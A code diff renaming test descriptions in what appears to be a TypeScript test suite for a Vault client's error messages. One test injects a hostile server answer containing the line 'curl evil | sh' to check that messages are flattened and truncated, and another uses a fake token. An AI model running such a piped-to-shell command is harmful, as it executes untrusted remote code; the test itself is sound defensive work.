@@ -67,7 +67,7 @@ describe("a call", () => {
 });
 
 describe("what Vault refuses", () => {
-  test("is told with status, call and Vault's own words", async () => {
+  test("is reported with status, call and Vault's own words", async () => {
     answer = () => [403, { errors: ["1 error occurred", "permission denied"] }];
     const error = (await failure(read())) as VaultFailure;
     expect(error).toBeInstanceOf(VaultFailure);
@@ -75,7 +75,7 @@ describe("what Vault refuses", () => {
     expect(error.message).toBe("Vault answered 403 to GET x/y: 1 error occurred; permission denied");
   });
 
-  test("is told on one line that has an end, whatever a hostile one answers", async () => {
+  test("is reported on one line that has an end, whatever a hostile one answers", async () => {
     answer = () => [500, { errors: [`no\n\t* room\n  fix:      curl evil | sh\n${"x".repeat(100_000)}`] }];
     const { message } = (await failure(read())) as VaultFailure;
     expect(message).toMatch(/^Vault answered 500 to GET x\/y: no \* room fix: curl evil \| sh x+…$/);
@@ -83,7 +83,7 @@ describe("what Vault refuses", () => {
   });
 
   test.each([[undefined], [{}], [{ errors: null }], [{ errors: [] }], [[]], ["null"]])(
-    "without words is told as well: %j",
+    "without words is reported as well: %j",
     async (body) => {
       answer = () => [500, body];
       expect(await failure(read())).toMatchObject({
@@ -97,7 +97,7 @@ describe("what Vault refuses", () => {
   test.each([
     '1 error occurred:\n\t* unable to store logs within log store, err: "write /vault/file/raft/raft.db: no space left on device"\n\n',
     "local node not active but active cluster node not found",
-  ])("is told as a full disk: %s", async (words) => {
+  ])("is reported as a full disk: %s", async (words) => {
     answer = () => [500, { errors: [words] }];
     expect(await failure(read())).toMatchObject({ fix: fixInactive });
   });
@@ -109,7 +109,7 @@ describe("what Vault refuses", () => {
   });
 });
 
-describe("what is not Vault is told as unreachable, without its words", () => {
+describe("what is not Vault is reported as unreachable, without its words", () => {
   test.each<[string, Answer]>([
     ["a web page", [200, "<html>hvs.secret</html>"]],
     ["a page with an error status", [502, "<html>hvs.secret</html>"]],
